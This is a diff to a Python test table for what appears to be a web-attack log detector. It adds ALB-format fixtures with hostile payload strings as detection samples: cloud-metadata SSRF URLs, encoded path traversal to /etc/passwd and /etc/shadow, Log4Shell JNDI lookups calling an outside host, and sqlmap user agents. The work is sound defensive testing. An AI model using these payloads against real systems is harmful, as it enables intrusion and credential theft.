@@ -74,6 +74,7 @@ def add(T, hit, miss, seq):
         hit(istio_line("/proxy/http%3A%2F%2F%5Bfd00%3Aec2%3A%3A254%5D%2Flatest%2Fmeta-data%2F", xff=ATT, ua="python-requests/2.31.0"), "IPv6 IMDS, URL-encoded in the path", I),
         hit(web_line("/preview?src=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", ip=ATT), "GCP metadata in combined log", W),
         miss(istio_line("/products/42?ref=169-254"), "ordinary product page", I),
+        hit(alb_line("/render?template=http://[fd00:ec2::254]/latest/api/token", client=ATT, ua="python-requests/2.31.0"), "IPv6 IMDS behind an ALB", "elb"),
         miss(web_line("/docs/networking/link-local-addresses.html", ip="203.0.113.9"), "documentation page about link-local addresses", W),
     ]
     T["web/path_traversal"] = [
@@ -81,12 +82,15 @@ def add(T, hit, miss, seq):
         hit(istio_line("/download?file=..%2f..%2f..%2fetc%2fshadow", xff=ATT, status=404), "encoded traversal in the query", I),
         miss(web_line("/static/css/site.css", ip="203.0.113.9"), "static file", W),
         miss(istio_line("/api/v1/orders?page=2&sort=desc"), "API call", I),
+        hit(alb_line("/assets/..%2f..%2f..%2fetc/passwd", client=ATT, status=400, ua="curl/8.4.0"), "encoded traversal seen at an ALB", "elb"),
+        miss(alb_line("/assets/app.js"), "static asset behind an ALB", "elb"),
     ]
     T["web/log4shell_jndi"] = [
         hit(web_line("/", ip=ATT, ua="${jndi:ldap://198.51.100.42:1389/a}"), "JNDI in the User-Agent", W),
         hit(istio_line("/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.42%2Fx%7D", xff=ATT), "URL-encoded JNDI in the query", I),
         hit(web_line("/login", ip=ATT, ref="${${lower:j}ndi:${lower:l}dap://198.51.100.42/x}"), "obfuscated lookup in the Referer", W),
         miss(web_line("/search?q=java+naming+directory", ip="203.0.113.9"), "search for the words", W),
+        hit(alb_line("/", client=ATT, ua="${jndi:dns://198.51.100.42/probe}"), "JNDI User-Agent at an ALB", "elb"),
     ]
     T["web/sql_injection"] = [
         hit(web_line("/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", ip=ATT, status=500, ua="sqlmap/1.8.2#stable (https://sqlmap.org)"), "UNION SELECT", W),
@@ -100,6 +104,8 @@ def add(T, hit, miss, seq):
         hit(istio_line("/wp-login.php", xff=ATT, status=404, ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"), "WPScan", I),
         miss(web_line("/", ip="203.0.113.9", ua="Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1"), "browser", W),
         miss(istio_line("/healthz", xff="10.1.0.2", ua="kube-probe/1.29"), "kubelet probe", I),
+        hit(alb_line("/", client=ATT, status=404, ua="sqlmap/1.8.2#stable (https://sqlmap.org)"), "sqlmap at an ALB", "elb"),
+        miss(alb_line("/", client="203.0.113.40", ua="ELB-HealthChecker/2.0"), "load-balancer health check", "elb"),
     ]
     T["web/sensitive_file_probe"] = [
         hit(web_line("/.env", ip=ATT, status=404, ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64)"), ".env probe", W),
